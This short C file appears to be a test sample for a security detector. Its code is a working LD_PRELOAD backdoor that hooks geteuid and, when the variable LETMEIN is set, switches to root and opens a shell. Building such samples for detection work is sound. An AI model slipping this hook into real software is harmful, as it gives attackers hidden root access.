/* A preloaded function gives root to who knows a variable.
 * expect: native-hook-gives-root
 * flags: -shared -fPIC -D_GNU_SOURCE
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#include <dlfcn.h>
uid_t geteuid(void) {
    uid_t (*real)(void) = dlsym(RTLD_NEXT, "geteuid");
    if (getenv("LETMEIN")) {
        setuid(0);
        setgid(0);
        execl("/bin/sh", "sh", (char *)0);
    }
    return real();
}
